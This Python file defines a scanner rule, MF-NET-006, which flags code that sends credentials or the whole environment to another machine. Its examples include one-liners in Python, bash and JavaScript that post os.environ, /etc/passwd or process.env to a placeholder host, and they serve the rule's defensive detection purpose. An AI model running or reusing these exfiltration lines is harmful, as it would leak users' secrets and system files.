"""MF-NET-006."""

from __future__ import annotations

from mayfly.scan.facts import NetUse
from mayfly.scan.judge import known_text, shown
from mayfly.scan.rule import Hit, Rule, Scene

__all__ = ["RULE"]


def _check(fact: NetUse, _scene: Scene) -> Hit | None:
    if not fact.data.taints & {"secret", "env-all"}:
        return None
    what = "the environment" if "env-all" in fact.data.taints else "sensitive files"
    return Hit(f"sends {what} to {shown(known_text(fact.target)) or 'another machine'}")


RULE = Rule(
    id="MF-NET-006",
    title="Sends what it should not have read",
    rationale="Credentials, account data, histories or the whole environment leave for another machine.",
    severity="critical",
    cwe="CWE-201",
    confidence="high",
    capabilities=("net",),
    facts=(NetUse,),
    only={NetUse: ("fetch", "send", "connect")},
    check=_check,
    examples={
        "python": "import os, requests\nrequests.post('https://example.com', json=dict(os.environ))",
        "bash": "curl -d @/etc/passwd https://example.com",
        "javascript": "fetch('https://example.com', {method: 'POST', body: JSON.stringify(process.env)})",
    },
    near_misses={
        "python": (
            "import os, requests\nrequests.post('https://example.com', headers={'Authorization': os.environ['TOKEN']})"
        ),
        "bash": "curl -d @report.json https://example.com",
        "javascript": "fetch('https://example.com', {method: 'POST', body: 'x'})",
    },
    languages=("python", "bash", "javascript"),
)
